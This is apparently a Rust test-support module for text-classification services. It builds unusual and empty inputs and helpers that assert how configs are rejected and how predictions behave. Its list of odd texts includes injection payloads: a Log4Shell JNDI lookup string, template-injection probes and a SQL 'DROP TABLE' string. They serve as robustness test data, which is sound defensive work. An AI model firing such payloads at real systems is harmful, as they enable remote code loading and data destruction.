//! What the tests of the services share.

#![allow(dead_code, reason = "every test file uses some of it")]

use otai_plugin::model::{Classify, Prediction, Text};
use otai_plugin::{ClassificationService, Failure, ScriptedHost, block_on, serde_json};

/// Texts that customers, mail gateways and attackers send.
pub(crate) fn strange() -> Vec<String> {
    let mut texts: Vec<String> = [
        "printer",
        "👍🎉",
        "my\0printer\0is on fire",
        "\u{202e}مرحبا الطابعة معطلة",
        "{{ 7*7 }} {% for x in range(9) %}x{% endfor %} ${jndi:ldap://a.example}",
        "<s></s>[CLS][SEP][PAD]<mask>",
        "'; DROP TABLE tickets; --",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push("the printer is on fire. ".repeat(44_000));
    texts.push("é".repeat(500_000));
    texts
}

/// Texts in which nobody says anything.
pub(crate) const EMPTY: [&str; 5] = ["", " \t\r\n", "\0\0\0", "\u{200b}\u{feff}", "<p></p>&nbsp;"];

/// The service that the config's `params` make.
pub(crate) fn of_json<S: ClassificationService>(params: serde_json::Value) -> Result<S, Failure> {
    ScriptedHost::new().service(S::new, params)
}

/// The predictions for `texts`; no fields are all fields.
pub(crate) fn ask<S: ClassificationService>(service: &S, texts: &[&str], fields: &[&str]) -> Vec<Prediction> {
    let text = |text: &&str| Text {
        text: (*text).to_owned(),
        ..Text::default()
    };
    let batch = Classify {
        texts: texts.iter().map(text).collect(),
        fields: fields.iter().map(|field| (*field).to_owned()).collect(),
    };
    block_on(service.classify(batch)).unwrap().predictions
}

/// That `params` are refused, for this param if one is named, with these words.
#[track_caller]
pub(crate) fn refuses<S: ClassificationService>(params: serde_json::Value, param: Option<&str>, words: &str) {
    let Err(failure) = of_json::<S>(params.clone()) else {
        panic!("{params} is taken");
    };
    let Failure::Rejected { field, message, .. } = &failure else {
        panic!("{failure:?}");
    };
    assert_eq!(field.as_deref(), param, "{failure}");
    assert!(message.contains(words), "{words:?} is not in {message:?}");
}

/// That the service works with no folder like this, and says so in one sentence with these words.
#[track_caller]
pub(crate) fn cannot_open<S: ClassificationService>(params: serde_json::Value, words: &[&str]) {
    let service = of_json::<S>(params).unwrap();
    let of_model = block_on(service.model()).unwrap_err();
    let of_classify = block_on(service.classify(Classify::default())).unwrap_err();
    assert_eq!(of_model, of_classify);
    let sentence = of_model.to_string();
    assert!(
        of_model.is_for_every_ticket() && !sentence.contains('\n'),
        "{of_model:?}"
    );
    for words in words {
        assert!(sentence.contains(words), "{words:?} is not in {sentence:?}");
    }
}

/// That a batch is answered like its texts one by one, the empty ones are left, and every confidence is one.
#[track_caller]
pub(crate) fn takes_any_text<S: ClassificationService>(service: &S) {
    let strange = strange();
    let mut texts: Vec<&str> = strange.iter().map(String::as_str).collect();
    texts.extend(EMPTY);
    let together = ask(service, &texts, &[]);
    assert_eq!(together.len(), texts.len());
    for (text, prediction) in texts.iter().zip(&together) {
        let start: String = text.chars().take(20).collect();
        assert_eq!(&ask(service, &[text], &[])[0], prediction, "{start:?} alone");
        let empty = EMPTY.contains(text);
        assert_eq!(
            prediction.leave.as_deref() == Some("the text is empty"),
            empty,
            "{start:?}"
        );
        assert_eq!(prediction.labels.is_empty(), prediction.leave.is_some(), "{start:?}");
        for labels in prediction.labels.values() {
            assert!(labels.is_sorted_by(|a, b| a.confidence >= b.confidence), "{start:?}");
            assert!(
                labels.iter().all(|l| (0.0..=1.0).contains(&l.confidence)),
                "{start:?}: {labels:?}"
            );
        }
    }
    assert!(ask(service, &[], &[]).is_empty());
}
